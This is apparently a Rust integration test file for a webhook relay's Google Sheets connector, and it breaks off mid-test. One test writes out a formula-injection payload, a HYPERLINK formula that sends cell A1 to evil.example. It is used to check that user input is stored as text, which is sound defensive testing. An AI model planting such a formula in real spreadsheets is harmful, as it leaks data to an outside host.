//! Google Sheets: rows under the right headers, batched under Google's quota. The real relay and
//! the real connector (with yup-oauth2 signing real JWTs) talk to a fake Google on loopback.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use hookfan::store::{Filter, SqliteStore, Status, Store};
use tempfile::TempDir;
use tokio::time::Instant;

use crate::fakes::google::{Call, EMAIL, FakeGoogle, Reply, Request, google_error};
use crate::support::{Relay, fixture, for_destination, v2_with_id, wait_deliveries, write_config};

const WAIT: Duration = Duration::from_secs(15);
/// Google's own sample spreadsheet id, as in the README.
const ID: &str = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms";
const TAB: &str = "Participations";

const EMAIL_V2: &str = "amelie.dupont@example.org";
const NAME_V2: &str = "Amélie Dupont-Nguyễn";
const CAMPAIGN_V2: &str = "Winter quiz 2026";

/// email, name, campaign: the fields most tests map.
const FIELDS: &str = r#"
email = "{{ participant.email }}"
name = "{{ participant.firstname }} {{ participant.lastname }}"
campaign = "{{ participation.campaign_name }}"
"#;

/// A fake Google, a folder with a key file for it, and the relay config around a destination.
struct Setup {
    google: FakeGoogle,
    dir: Arc<TempDir>,
    key: PathBuf,
}

impl Setup {
    async fn new() -> Setup {
        let google = FakeGoogle::start().await;
        let dir = Arc::new(tempfile::tempdir().unwrap());
        let key = google.write_key(dir.path());
        Setup { google, dir, key }
    }

    /// One open source, short retries, and a `sheet` destination with `extra` keys and `fields`.
    fn config(&self, extra: &str, fields: &str) -> String {
        crate::support::config(&format!(
            r#"
[destinations.sheet]
type = "google_sheets"
spreadsheet_id = "{ID}"
sheet = "{TAB}"
credentials = "{key}"
api_base = "{base}"
{extra}

[destinations.sheet.fields]
{fields}
"#,
            key = self.key.display(),
            base = self.google.base,
        ))
    }

    async fn relay(&self, extra: &str, fields: &str) -> Relay {
        Relay::with(&self.config(extra, fields))
            .dir(self.dir.clone())
            .start()
            .await
    }

    fn rows(&self) -> Vec<Vec<String>> {
        self.google.rows(ID, TAB)
    }
}

fn strings(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|c| c.to_string()).collect()
}

/// Posts `n` distinct participations, `parallel` at a time, as a campaign peak would.
async fn post_many(relay: &Relay, prefix: &str, n: usize, parallel: usize) {
    let url = relay.url("/hooks/qualifio");
    let sem = Arc::new(tokio::sync::Semaphore::new(parallel));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        let permit = sem.clone().acquire_owned().await.unwrap();
        let (client, url, body) = (
            relay.client.clone(),
            url.clone(),
            v2_with_id(&format!("{prefix}-{i}")),
        );
        tasks.spawn(async move {
            let r = client
                .post(url)
                .header("content-type", "application/json")
                .body(body)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status().as_u16(), 202);
            drop(permit);
        });
    }
    while let Some(r) = tasks.join_next().await {
        r.unwrap();
    }
}

/// The v2 sample with other form values.
fn v2_with(id: &str, firstname: &str, lastname: &str, email: &str) -> String {
    let mut doc: serde_json::Value =
        serde_json::from_str(&fixture("participation-v2.json")).unwrap();
    doc["id"] = id.into();
    doc["form"][0]["responses"][0]["value"] = firstname.into();
    doc["form"][1]["responses"][0]["value"] = lastname.into();
    doc["form"][2]["responses"][0]["value"] = email.into();
    doc.to_string()
}

/// Waits until `n` deliveries to the sheet are delivered.
async fn delivered(relay: &Relay, n: usize) -> (SqliteStore, Vec<hookfan::store::DeliveryRow>) {
    let store = relay.store().await;
    let filter = Filter {
        limit: u32::try_from(n).unwrap() + 10,
        ..for_destination("sheet")
    };
    let rows = wait_deliveries(&store, filter, Status::Delivered, n, WAIT).await;
    (store, rows)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fields_go_under_their_headers_whatever_the_order_case_and_extra_columns() {
    let s = Setup::new().await;
    s.google.add_tab(
        ID,
        TAB,
        &[
            &[" Campaign", "Notes", "EMAIL ", "name"],
            &["Autumn quiz", "kept", "old@example.org", "Old"],
        ],
    );
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("hdr-1")).await;

    let rows = s.google.wait_rows(ID, TAB, 3, WAIT).await;
    assert_eq!(rows[2], strings(&[CAMPAIGN_V2, "", EMAIL_V2, NAME_V2]));
    assert_eq!(
        rows[1],
        strings(&["Autumn quiz", "kept", "old@example.org", "Old"])
    );
    let appends = s.google.calls(Call::Append);
    assert_eq!(appends.len(), 1);
    assert_eq!(appends[0].range, "'Participations'!A1");
    assert_eq!(appends[0].param("valueInputOption"), Some("RAW"));
    assert_eq!(appends[0].param("insertDataOption"), Some("INSERT_ROWS"));
    // Row 1 was read once and left alone; one token served everything.
    assert_eq!(s.google.calls(Call::Get).len(), 1);
    assert_eq!(s.google.calls(Call::Get)[0].range, "'Participations'!1:1");
    assert!(s.google.calls(Call::Update).is_empty());
    assert_eq!(s.google.calls(Call::Token).len(), 1);
    assert_eq!(
        s.google.calls(Call::Token)[0].status,
        200,
        "{:?}",
        s.google.calls(Call::Token)
    );

    // A second delivery uses the cached header: no second read.
    relay.accept(v2_with_id("hdr-2")).await;
    s.google.wait_rows(ID, TAB, 4, WAIT).await;
    assert_eq!(s.google.calls(Call::Get).len(), 1);
    let (store, rows) = delivered(&relay, 2).await;
    let (_, attempts) = store.show(rows[0].id).await.unwrap().unwrap();
    assert_eq!(attempts[0].status_code, Some(200));
    assert!(
        attempts[0]
            .response
            .as_deref()
            .unwrap_or_default()
            .contains("updatedRange"),
        "{attempts:?}"
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_empty_tab_gets_the_header_row_first() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[]);
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("empty-1")).await;

    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(
        rows,
        [
            strings(&["email", "name", "campaign"]),
            strings(&[EMAIL_V2, NAME_V2, CAMPAIGN_V2])
        ]
    );
    let calls: Vec<Call> = s.google.requests().iter().map(|r| r.call).collect();
    assert_eq!(calls, [Call::Token, Call::Get, Call::Update, Call::Append]);
    let update = &s.google.calls(Call::Update)[0];
    assert_eq!(update.range, "'Participations'!A1:C1");
    assert_eq!(update.param("valueInputOption"), Some("RAW"));
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_column_is_added_at_the_end() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["Email", "Name", "Notes"]]);
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("missing-1")).await;

    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(rows[0], strings(&["Email", "Name", "Notes", "campaign"]));
    assert_eq!(rows[1], strings(&[EMAIL_V2, NAME_V2, "", CAMPAIGN_V2]));
    assert_eq!(
        s.google.calls(Call::Update)[0].range,
        "'Participations'!D1:D1"
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_add_missing_columns_a_field_with_no_header_is_dead_and_named() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["Email", "Name"]]);
    let relay = s.relay("add_missing_columns = false", FIELDS).await;
    relay.accept(v2_with_id("nocol-1")).await;

    let store = relay.store().await;
    let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
    assert_eq!(rows[0].attempts, 1);
    let error = rows[0].last_error.clone().unwrap_or_default();
    assert!(
        error.contains("\"campaign\"") && error.contains("add_missing_columns = false"),
        "{error}"
    );
    assert!(s.google.calls(Call::Append).is_empty());
    assert!(s.google.calls(Call::Update).is_empty());
    assert_eq!(s.rows().len(), 1);

    // Someone adds the column by hand: the next delivery reads row 1 again rather than trust
    // its ten-minute copy, and goes through.
    s.google.add_tab(ID, TAB, &[&["Email", "Name", "Campaign"]]);
    relay.accept(v2_with_id("nocol-2")).await;
    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(rows[1], strings(&[EMAIL_V2, NAME_V2, CAMPAIGN_V2]));
    assert_eq!(s.google.calls(Call::Get).len(), 2);
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_range_error_is_dead_with_googles_message_and_row_1_is_read_again() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    s.google.script(
        Call::Append,
        [Reply::status(400).body(&google_error(
            400,
            "INVALID_ARGUMENT",
            "Unable to parse range: 'Participations'!A1",
        ))],
    );
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("range-1")).await;
    let store = relay.store().await;
    let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
    assert_eq!(
        rows[0].last_error.as_deref(),
        Some(
            "HTTP 400 Bad Request: Google says \"Unable to parse range: 'Participations'!A1\" (is there a tab named \"Participations\"?)"
        )
    );
    assert_eq!(s.google.calls(Call::Get).len(), 1);

    relay.accept(v2_with_id("range-2")).await;
    s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(
        s.google.calls(Call::Get).len(),
        2,
        "the header was read again"
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn order_mode_writes_fields_in_config_order_and_reads_nothing() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["Z", "Y", "X", "W"]]);
    let fields = format!("{FIELDS}formula = \"=1+1\"\n");
    let relay = s.relay("columns = \"order\"", &fields).await;
    relay.accept(v2_with_id("order-1")).await;

    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    // RAW stores text as typed, so a formula is harmless and kept as is.
    assert_eq!(rows[1], strings(&[EMAIL_V2, NAME_V2, CAMPAIGN_V2, "=1+1"]));
    assert!(s.google.calls(Call::Get).is_empty());
    assert!(s.google.calls(Call::Update).is_empty());
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn five_hundred_participations_in_a_burst_take_at_most_three_appends() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    let started = Instant::now();
    post_many(&relay, "burst", 500, 32).await;
    let accepted_in = started.elapsed();

    s.google.wait_rows(ID, TAB, 501, WAIT).await;
    let appends = s.google.calls(Call::Append);
    let sizes: Vec<usize> = appends.iter().map(|a| a.rows.len()).collect();
    assert!(
        appends.len() <= 3,
        "{} appends of {sizes:?} rows (posting took {accepted_in:?})",
        appends.len()
    );
    assert_eq!(sizes.iter().sum::<usize>(), 500);
    delivered(&relay, 500).await;
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn throttled_then_failing_then_appended_with_retry_after_honoured() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    s.google.script(
        Call::Append,
        [
            Reply::status(429)
                .header("Retry-After", "1")
                .body(&google_error(
                    429,
                    "RESOURCE_EXHAUSTED",
                    "Quota exceeded for quota metric 'Write requests'",
                )),
            Reply::status(500).body(&google_error(
                500,
                "INTERNAL",
                "Internal error encountered.",
            )),
        ],
    );
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("throttled-1")).await;

    let (store, rows) = delivered(&relay, 1).await;
    let (_, attempts) = store.show(rows[0].id).await.unwrap().unwrap();
    let summary = crate::support::attempt_summary(&store, rows[0].id).await;
    assert_eq!(
        summary,
        [
            (1, "retry", Some(429)),
            (2, "retry", Some(500)),
            (3, "delivered", Some(200))
        ]
    );
    assert!(
        attempts[0]
            .error
            .as_deref()
            .unwrap_or_default()
            .contains("Quota exceeded"),
        "{attempts:?}"
    );
    let appends = s.google.calls(Call::Append);
    let gap = appends[1].at - appends[0].at;
    assert!(
        gap >= Duration::from_millis(950),
        "Retry-After: 1 was not honoured: {gap:?}"
    );
    assert_eq!(s.rows().len(), 2);
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_403_is_dead_and_says_which_account_to_share_the_sheet_with() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    s.google.script(
        Call::Append,
        [Reply::status(403).body(&google_error(
            403,
            "PERMISSION_DENIED",
            "The caller does not have permission",
        ))],
    );
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("denied-1")).await;

    let store = relay.store().await;
    let rows = wait_deliveries(&store, for_destination("sheet"), Status::Dead, 1, WAIT).await;
    assert_eq!(rows[0].attempts, 1);
    assert_eq!(
        rows[0].last_error.as_deref(),
        Some(format!(
            "HTTP 403 Forbidden: Google says \"The caller does not have permission\". Share the spreadsheet with the service account {EMAIL} (as an Editor)"
        ).as_str())
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_entered_values_that_would_run_as_formulas_are_kept_as_text() {
    let s = Setup::new().await;
    s.google
        .add_tab(ID, TAB, &[&["first", "last", "email", "campaign", "id"]]);
    let fields = r#"
first = "{{ participant.firstname }}"
last = "{{ participant.lastname }}"
email = "{{ participant.email }}"
campaign = "{{ participation.campaign_name }}"
id = "-{{ participation.campaign_id }}"
"#;
    let relay = s.relay("value_input = \"user_entered\"", fields).await;
    let evil = r#"=HYPERLINK("https://evil.example/?"&A1,"Claim your prize")"#;
    relay
        .accept(v2_with("formula-1", evil, "+32 470 12 34 56", "@everyone"))
        .await;

    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(
        rows[1],
        strings(&[
            &format!("'{evil}"),
            "'+32 470 12 34 56",
            "'@everyone",
            CAMPAIGN_V2,
            "'-771204"
        ])
    );
    assert_eq!(
        s.google.calls(Call::Append)[0].param("valueInputOption"),
        Some("USER_ENTERED")
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_token_is_refreshed_once_and_the_append_goes_through() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    relay.accept(v2_with_id("token-1")).await;
    s.google.wait_rows(ID, TAB, 2, WAIT).await;

    s.google.revoke_tokens();
    relay.accept(v2_with_id("token-2")).await;
    s.google.wait_rows(ID, TAB, 3, WAIT).await;
    let statuses: Vec<u16> = s
        .google
        .calls(Call::Append)
        .iter()
        .map(|a| a.status)
        .collect();
    assert_eq!(statuses, [200, 401, 200]);
    assert_eq!(s.google.calls(Call::Token).len(), 2);
    let (store, rows) = delivered(&relay, 2).await;
    for row in rows {
        assert_eq!(
            row.attempts, 1,
            "the refresh is part of one attempt: {row:?}"
        );
    }
    drop(store);
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_value_longer_than_a_cell_is_cut_with_a_warning() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    let long = "é".repeat(60_000);
    relay.accept(v2_with("long-1", &long, "X", EMAIL_V2)).await;

    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(rows[1][1].chars().count(), 50_000);
    let (store, rows) = delivered(&relay, 1).await;
    let (_, attempts) = store.show(rows[0].id).await.unwrap().unwrap();
    let error = attempts[0].error.clone().unwrap_or_default();
    assert!(
        error.contains("warning: field \"name\" was cut from 60002 to 50000"),
        "{error}"
    );
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn check_online_reports_the_tab_and_which_field_goes_under_which_header() {
    let s = Setup::new().await;
    s.google.add_tab(ID, "Other", &[]);
    s.google.add_tab(ID, TAB, &[&["Email", "Notes", " NAME "]]);
    let config = write_config(s.dir.path(), &s.config("", FIELDS));
    let reached = hookfan::commands::check::online(&config, None)
        .await
        .unwrap();
    assert_eq!(reached.len(), 1);
    assert!(reached[0].ok, "{reached:?}");
    assert_eq!(
        reached[0].detail,
        format!(
            "spreadsheet \"Campaign results\", tab \"Participations\" (1000 rows × 26 columns), readable by {EMAIL}\n\
             email → column A \"Email\"\n\
             name → column C \" NAME \"\n\
             campaign → no header cell yet: the first delivery adds it as column D\n\
             left empty: B \"Notes\"\n\
             write access shows at the first delivery (a check writes nothing)"
        )
    );
    // A check writes nothing.
    assert!(s.google.calls(Call::Update).is_empty());
    assert!(s.google.calls(Call::Append).is_empty());
    let text = hookfan::commands::check::online_text(&reached);
    assert!(
        text.contains("  sheet            ok: spreadsheet \"Campaign results\""),
        "{text}"
    );

    // Without add_missing_columns the same sheet fails the check, naming the field.
    let config = write_config(
        s.dir.path(),
        &s.config("add_missing_columns = false", FIELDS),
    );
    let reached = hookfan::commands::check::online(&config, None)
        .await
        .unwrap();
    assert!(!reached[0].ok);
    assert!(
        reached[0]
            .detail
            .contains("campaign → NO header cell, and add_missing_columns = false"),
        "{reached:?}"
    );

    // A wrong tab lists the real ones.
    let config = write_config(
        s.dir.path(),
        &s.config("", FIELDS)
            .replace("sheet = \"Participations\"", "sheet = \"Participants\""),
    );
    let reached = hookfan::commands::check::online(&config, None)
        .await
        .unwrap();
    assert!(!reached[0].ok);
    assert_eq!(
        reached[0].detail,
        "spreadsheet \"Campaign results\" has no tab named \"Participants\"; its tabs: \"Other\", \"Participations\""
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn check_online_explains_a_missing_key_a_bad_key_and_a_403_without_showing_the_key() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email"]]);
    let text = s.config("enabled = false", "email = \"{{ participant.email }}\"");

    // A disabled destination whose key does not exist loads, and only --destination checks it.
    let missing = text.replace(&s.key.display().to_string(), "/no/such/key.json");
    let config = write_config(s.dir.path(), &missing);
    assert!(
        hookfan::commands::check::online(&config, None)
            .await
            .unwrap()
            .is_empty()
    );
    let reached = hookfan::commands::check::online(&config, Some("sheet"))
        .await
        .unwrap();
    assert!(!reached[0].ok);
    assert!(
        reached[0]
            .detail
            .starts_with("cannot read the service-account key /no/such/key.json:"),
        "{reached:?}"
    );

    // A key whose private key is not PEM: named, never shown.
    let bad = s.dir.path().join("bad-key.json");
    let mut key: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&s.key).unwrap()).unwrap();
    key["private_key"] =
        "-----BEGIN PRIVATE KEY-----\nTOPSECRETMATERIAL\n-----END PRIVATE KEY-----\n".into();
    std::fs::write(&bad, key.to_string()).unwrap();
    let config = write_config(
        s.dir.path(),
        &text.replace(&s.key.display().to_string(), &bad.display().to_string()),
    );
    let reached = hookfan::commands::check::online(&config, Some("sheet"))
        .await
        .unwrap();
    assert!(!reached[0].ok);
    assert!(reached[0].detail.contains("cannot be used"), "{reached:?}");
    assert!(!reached[0].detail.contains("TOPSECRET"), "{reached:?}");
    assert!(!format!("{config:?}").contains("PRIVATE KEY"));

    // A spreadsheet not shared with the service account.
    s.google.script(
        Call::Spreadsheet,
        [Reply::status(403).body(&google_error(
            403,
            "PERMISSION_DENIED",
            "The caller does not have permission",
        ))],
    );
    let config = write_config(s.dir.path(), &text);
    let reached = hookfan::commands::check::online(&config, Some("sheet"))
        .await
        .unwrap();
    assert!(!reached[0].ok);
    assert!(
        reached[0].detail.contains(&format!(
            "Share the spreadsheet with the service account {EMAIL}"
        )),
        "{reached:?}"
    );
    let token_requests = s.google.calls(Call::Token);
    assert!(
        token_requests.iter().all(|t| t.status == 200),
        "{token_requests:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn preview_shows_the_row_in_config_order_offline_and_in_the_sheets_order_online() {
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["Name", "Notes", "Email"]]);
    let config = write_config(s.dir.path(), &s.config("", FIELDS));
    let payload = fixture("participation-v2.json");

    let offline =
        hookfan::commands::preview::preview(&config, &payload, Some("sheet"), None).unwrap();
    let request = offline[0].request.clone().unwrap();
    assert_eq!(
        request.body,
        serde_json::json!([EMAIL_V2, NAME_V2, CAMPAIGN_V2]).to_string()
    );
    assert!(
        request
            .action
            .contains(&format!("tab \"Participations\" of spreadsheet {ID}")),
        "{request:?}"
    );
    assert_eq!(
        request.headers,
        [("authorization".to_string(), "Bearer ***".to_string())]
    );
    assert!(s.google.requests().is_empty(), "offline asks nothing");

    let online = hookfan::commands::preview::preview_online(&config, &payload, Some("sheet"), None)
        .await
        .unwrap();
    assert_eq!(online[0].error, None);
    let request = online[0].request.clone().unwrap();
    assert_eq!(
        request.body,
        serde_json::json!([NAME_V2, "", EMAIL_V2, CAMPAIGN_V2]).to_string()
    );
    assert!(
        request
            .action
            .ends_with("under row 1: A \"Name\", B \"Notes\", C \"Email\", D \"campaign\" (added)"),
        "{request:?}"
    );
    assert!(
        s.google.calls(Call::Update).is_empty(),
        "a preview writes nothing"
    );
}

/// The README's Google Sheets guide, as written, against the fake: its config (with `api_base`
/// and the key pointed at the fake), the `check --online` and `preview --online` output it shows,
/// and a delivery.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_readme_guide_works_against_the_fake() {
    let readme =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let section = &readme[readme.find("## Google Sheets").unwrap()..];
    let section = &section[..section[3..].find("\n## ").unwrap()];
    let start = section.find("```toml\n").expect("a toml example") + "```toml\n".len();
    let example = &section[start..start + section[start..].find("```").unwrap()];

    let s = Setup::new().await;
    s.google.add_tab(
        ID,
        TAB,
        &[&["Date", "E-mail", "First name", "Last name", "Newsletter"]],
    );
    // The guide's key file comes from ${GOOGLE_APPLICATION_CREDENTIALS}; the test puts the path
    // in directly rather than change the environment of the whole test binary.
    let key = s.key.display().to_string();
    let text = example.replace("${GOOGLE_APPLICATION_CREDENTIALS}", &key);
    assert_ne!(
        text, example,
        "the guide reads the key from the environment"
    );
    let text = text.replace(
        "type = \"google_sheets\"\n",
        &format!(
            "type = \"google_sheets\"\napi_base = \"{}\"\n",
            s.google.base
        ),
    );
    let text = format!("{}\n{text}", crate::support::OPEN_SOURCE);
    let config = write_config(s.dir.path(), &text);

    let reached = hookfan::commands::check::online(&config, Some("results"))
        .await
        .unwrap();
    assert!(reached[0].ok, "{reached:?}");
    let shown = hookfan::commands::check::online_text(&reached);
    assert!(
        section.contains(shown.trim()),
        "the README shows another check:\n{shown}"
    );
    let payload = fixture("participation-v2.json");
    let preview =
        hookfan::commands::preview::preview_online(&config, &payload, Some("results"), None)
            .await
            .unwrap();
    let shown = hookfan::commands::preview::to_text(&preview);
    assert!(
        section.contains(shown.trim()),
        "the README shows another preview:\n{shown}"
    );

    let relay = Relay::with(&text).dir(s.dir.clone()).start().await;
    relay.accept(v2_with_id("readme-1")).await;
    let rows = s.google.wait_rows(ID, TAB, 2, WAIT).await;
    assert_eq!(
        rows[0],
        strings(&[
            "Date",
            "E-mail",
            "First name",
            "Last name",
            "Newsletter",
            "Campaign"
        ])
    );
    assert_eq!(
        rows[1],
        strings(&[
            "2026-11-20 10:14",
            EMAIL_V2,
            "Amélie",
            "Dupont-Nguyễn",
            "yes",
            CAMPAIGN_V2
        ])
    );
    relay.stop().await;
}

/// The real binary at `RUST_LOG=debug`: the key, the signed assertion and the access tokens stay
/// out of its logs (yup-oauth2 would log them at debug level).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_binary_never_logs_the_key_or_a_token_even_at_debug() {
    crate::support::init();
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let config = format!(
        "[server]\nlisten = \"127.0.0.1:{port}\"\n{}",
        s.config("", FIELDS)
    );
    std::fs::write(s.dir.path().join("hookfan.toml"), config).unwrap();
    let log = s.dir.path().join("serve.log");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_hookfan"))
        .args(["serve", "--config", "hookfan.toml", "--log-format", "json"])
        .current_dir(s.dir.path())
        .env("RUST_LOG", "debug")
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    let mut up = false;
    for _ in 0..500 {
        if client.get(format!("{base}/healthz")).send().await.is_ok() {
            up = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(up, "hookfan serve did not start");
    let r = client
        .post(format!("{base}/hooks/qualifio"))
        .body(v2_with_id("logs-1"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 202);
    s.google.wait_rows(ID, TAB, 2, WAIT).await;
    // Let the attempt be logged, then stop.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let _ = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status();
    tokio::task::spawn_blocking(move || child.wait().unwrap())
        .await
        .unwrap();

    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("\"outcome\":\"delivered\""), "{text}");
    let pem = std::fs::read_to_string(
        Path::new(crate::support::FIXTURES).join("google-TEST-ONLY-service-account-key.pem"),
    )
    .unwrap();
    let key_line = pem.lines().nth(3).unwrap();
    for secret in ["ya29.", "PRIVATE KEY", key_line, "assertion", "eyJhbGci"] {
        assert!(!text.contains(secret), "the log holds {secret:?}");
    }
}

/// Figures, not a test: API calls and wall time for a burst of 10,000 participations to one tab,
/// and for a steady 20 per second. Run with
/// `cargo test --test it sheets::figures -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a benchmark: prints figures"]
async fn figures() {
    // Burst.
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    let n = 10_000;
    let started = Instant::now();
    post_many(&relay, "fig-burst", n, 64).await;
    let accepted = started.elapsed();
    s.google
        .wait_rows(ID, TAB, n + 1, Duration::from_secs(600))
        .await;
    let done = started.elapsed();
    let appends = s.google.calls(Call::Append);
    let first = appends.first().map(|a| a.at).unwrap();
    let last = appends.last().map(|a| a.at).unwrap();
    let sizes: Vec<usize> = appends.iter().map(|a| a.rows.len()).collect();
    println!(
        "burst of {n}: accepted in {:.1}s; all rows in the sheet after {:.1}s; {} append calls (rows per call: max {}, min {}), first to last append {:.1}s; other calls: {} token, {} values.get, {} values.update",
        accepted.as_secs_f64(),
        done.as_secs_f64(),
        appends.len(),
        sizes.iter().max().unwrap(),
        sizes.iter().min().unwrap(),
        (last - first).as_secs_f64(),
        s.google.calls(Call::Token).len(),
        s.google.calls(Call::Get).len(),
        s.google.calls(Call::Update).len(),
    );
    relay.stop().await;

    // The same 10,000 already waiting when the relay starts (accepted while it was down, say):
    // the delivery side alone.
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let store: Arc<dyn Store> = Arc::new(
        SqliteStore::open(&s.dir.path().join("hookfan.db"))
            .await
            .unwrap(),
    );
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        let store = store.clone();
        tasks.spawn(async move {
            let id = format!("fig-backlog-{i}");
            store
                .accept(hookfan::store::Incoming {
                    source: "qualifio".into(),
                    participation_id: id.clone(),
                    format: "v2",
                    body: v2_with_id(&id),
                    body_sha256: id,
                    received_at: hookfan::store::now_ms(),
                    destinations: vec!["sheet".into()],
                })
                .await
                .unwrap();
        });
        if tasks.len() >= 256 {
            tasks.join_next().await.unwrap().unwrap();
        }
    }
    while let Some(r) = tasks.join_next().await {
        r.unwrap();
    }
    let started = Instant::now();
    let relay = Relay::with(&s.config("", FIELDS))
        .dir(s.dir.clone())
        .store(store)
        .start()
        .await;
    s.google
        .wait_rows(ID, TAB, n + 1, Duration::from_secs(600))
        .await;
    let done = started.elapsed();
    let appends = s.google.calls(Call::Append);
    println!(
        "backlog of {n} at start: all rows in the sheet after {:.1}s; {} append calls (rows per call: max {}, min {})",
        done.as_secs_f64(),
        appends.len(),
        appends.iter().map(|a| a.rows.len()).max().unwrap(),
        appends.iter().map(|a| a.rows.len()).min().unwrap(),
    );
    relay.stop().await;

    // Steady 20/s for 60 s.
    let s = Setup::new().await;
    s.google.add_tab(ID, TAB, &[&["email", "name", "campaign"]]);
    let relay = s.relay("", FIELDS).await;
    let (rate, secs) = (20u32, 60u32);
    let started = Instant::now();
    let mut tick = tokio::time::interval(Duration::from_millis(1000 / u64::from(rate)));
    for i in 0..rate * secs {
        tick.tick().await;
        relay.accept(v2_with_id(&format!("fig-steady-{i}"))).await;
    }
    let posted = started.elapsed();
    let total = (rate * secs) as usize;
    s.google
        .wait_rows(ID, TAB, total + 1, Duration::from_secs(120))
        .await;
    let done = started.elapsed();
    let appends = s.google.calls(Call::Append);
    let sizes: Vec<usize> = appends.iter().map(|a| a.rows.len()).collect();
    let per_min = appends.len() as f64 * 60.0 / posted.as_secs_f64();
    println!(
        "steady {rate}/s for {secs}s ({total}): {} append calls ({per_min:.0}/min; rows per call: mean {:.0}, max {}), last row in the sheet {:.1}s after the last post",
        appends.len(),
        total as f64 / appends.len() as f64,
        sizes.iter().max().unwrap(),
        (done - posted).as_secs_f64(),
    );
    delivered(&relay, total).await;
    relay.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_and_extending_the_header_count_against_the_rate_limit() {
    let s = Setup::new().await;
    // An empty tab: the first delivery reads row 1, writes the header, then appends.
    s.google.add_tab(ID, TAB, &[]);
    let relay = s.relay("rate_limit = \"2/3s\"", FIELDS).await;
    relay.accept(v2_with_id("rate-1")).await;
    s.google.wait_rows(ID, TAB, 2, WAIT).await;
    let calls: Vec<Request> = s
        .google
        .requests()
